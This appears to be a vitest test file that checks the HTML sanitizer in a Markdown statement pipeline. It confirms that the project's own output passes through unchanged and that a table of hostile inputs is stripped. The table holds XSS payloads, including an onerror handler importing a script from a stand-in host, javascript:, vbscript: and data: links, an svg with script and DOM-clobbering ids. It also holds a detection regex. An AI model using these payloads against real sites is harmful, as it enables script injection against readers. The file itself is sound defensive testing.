// The sanitizer at the end of the statement pipeline: it changes nothing the project's plugins make,
// and removes every element, attribute and link scheme outside its allow-list, whatever the Markdown holds.
import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { unified } from 'unified';
import remarkParse from 'remark-parse';
import remarkRehype from 'remark-rehype';
import rehypeRaw from 'rehype-raw';
import rehypeStringify from 'rehype-stringify';
import { VFile } from 'vfile';
import { fromHtml } from 'hast-util-from-html';
import { visit } from 'unist-util-visit';
import type { Element } from 'hast';
import { rehypePlugins, remarkPlugins, remarkRehypeOptions } from '../../../src/markdown/pipeline.ts';
import { rehypeSanitizeStatement, statementSchema } from '../../../src/markdown/sanitize.ts';
import { renderMarkdown } from '../../support/render-markdown.ts';

/** The pipeline as Astro runs it, without the sanitizer: what the plugins alone make. */
async function renderUnsanitized(markdown: string, frontmatter: Record<string, unknown>): Promise<string> {
  const file = new VFile({ value: markdown, data: { astro: { frontmatter: { ...frontmatter } } } });
  const processor = unified()
    .use(remarkParse)
    .use(remarkPlugins)
    .use(remarkRehype, { ...remarkRehypeOptions, allowDangerousHtml: true })
    .use(rehypePlugins.filter((plugin) => plugin !== rehypeSanitizeStatement))
    .use(rehypeRaw)
    .use(rehypeStringify);
  return String(await processor.process(file));
}

function statementFile(file: string): { body: string; frontmatter: Record<string, unknown> } {
  const text = fs.readFileSync(file, 'utf8');
  const match = /^---\n([\s\S]*?)\n---\n([\s\S]*)$/.exec(text)!;
  return { frontmatter: parse(match[1]!) as Record<string, unknown>, body: match[2]! };
}

/** Every element and attribute of the output that the schema does not allow, and every unsafe address. */
function outsideSchema(html: string): string[] {
  const faults: string[] = [];
  visit(fromHtml(html, { fragment: true }), 'element', (node: Element) => {
    if (!statementSchema.tagNames!.includes(node.tagName)) faults.push(`<${node.tagName}>`);
    for (const [name, value] of Object.entries(node.properties)) {
      if (/^on/i.test(name) || name === 'style' || name === 'src') faults.push(`${name} on <${node.tagName}>`);
      if (name === 'href' && !/^(https?:|mailto:|#|\/[^/])/.test(String(value))) faults.push(`href=${String(value)}`);
    }
  });
  return faults;
}

const statements = fs.readdirSync('content/statements').map((name) => path.join('content/statements', name));

describe('the sanitizer keeps everything the project makes', () => {
  it.each(statements)('%s renders byte for byte the same with the sanitizer as without', async (file) => {
    const { body, frontmatter } = statementFile(file);
    const sanitized = (await renderMarkdown(body, frontmatter, { raw: true })).html;
    expect(sanitized).toBe(await renderUnsanitized(body, frontmatter));
    expect(sanitized).toContain('id="fn-1"');
    expect(outsideSchema(sanitized)).toEqual([]);
  });

  it('keeps the Markdown an editor may write: emphasis, lists, quotes, tables, <sup>, <sub>, <br>, safe links', async () => {
    const markdown = [
      'A *word*, a **word**, ~~struck~~, `code`, x<sup>2</sup>, H<sub>2</sub>O,<br>a [page](https://example.org/a), [http](http://example.org/), [mail](mailto:a@example.org), [lost](#).',
      '> A quotation.',
      '- one\n- two',
      '| a | b |\n| :- | -: |\n| 1 | 2 |',
    ].join('\n\n');
    const { html } = await renderMarkdown(markdown, {}, { raw: true });
    for (const kept of ['<em>word</em>', '<strong>word</strong>', '<del>struck</del>', '<code>code</code>', '<sup>2</sup>', '<sub>2</sub>', '<br>', 'href="https://example.org/a"', 'href="http://example.org/"', 'href="mailto:a@example.org"', 'class="lost-link"', '<blockquote id="p-2"', '<li id="p-3"', '<td align="left">1</td>', '<td align="right">2</td>']) {
      expect(html).toContain(kept);
    }
    expect(html).toBe(await renderUnsanitized(markdown, {}));
  });
});

describe('the sanitizer removes what could run code or load another site', () => {
  const hostile: [string, string, string][] = [
    ['an onerror handler', 'Hello <img src=x onerror="import(\'//e.x/p.js\')"> world.', 'Hello  world.'],
    ['a script element and its content', 'A <script>alert(1)</script> B.', 'A  B.'],
    ['a script as a block', '<script>\nalert(1)\n</script>\n\nAfter.', 'After.'],
    ['a javascript: link', '[click](javascript:alert(1))', 'click'],
    ['a javascript: link with odd case and a tab', '[click](<JaVa\tScRiPt:alert(1)>)', 'click'],
    ['an entity-encoded javascript: link', '[click](&#106;avascript:alert(1))', 'click'],
    ['a data: link', '[click](data:text/html,<script>alert(1)</script>)', 'click'],
    ['a vbscript: link in raw HTML', '<a href="vbscript:msgbox(1)">click</a>', 'click'],
    ['an autolink with a scheme outside the list', '<file:///etc/passwd>', 'file:///etc/passwd'],
    ['an iframe', '<iframe src="https://e.x/"></iframe>Text', 'Text'],
    ['an svg with a script inside', '<svg><script>alert(1)</script><a href="javascript:alert(1)">x</a></svg>', ''],
    ['a style element and attribute', '<style>body{display:none}</style><sup style="color:red" onclick="alert(1)">2</sup>', '2'],
    ['an id that clobbers a global', '<sup id="location">1</sup> <p id="forms">x</p>', '1 x'],
    ['a form and input', '<form action="https://e.x/"><input name="q" value="v"><button formaction="javascript:alert(1)">Go</button></form>', 'Go'],
    ['a comment', 'A <!-- <script>alert(1)</script> --> B', 'A  B'],
    ['a markdown picture', '![x](https://e.x/track.png)', ''],
  ];

  it.each(hostile)('%s', async (_name, markdown, text) => {
    const { html } = await renderMarkdown(markdown);
    expect(outsideSchema(html)).toEqual([]);
    expect(html).not.toMatch(/<script|<iframe|<svg|<form|<input|<img|<style|<!--|href="(?!https?:|mailto:|#|\/)|\son[a-z]+=|id="(location|forms)"/i);
    const shown = fromHtml(html, { fragment: true });
    let words = '';
    visit(shown, 'text', (node: { value: string }) => { words += node.value; });
    expect(words.replace(/¶\d+/g, '').trim()).toBe(text);
  });

  it('a sidenote anchor name the plugins did not make is removed (src/markdown/sidenotes.ts)', async () => {
    const { html } = await renderMarkdown('<a href="#fn-1" data-sidenote="--statement-text">x</a> <sup data-sidenote="--note-1">1</sup>');
    expect(html).not.toContain('data-sidenote');
  });
});
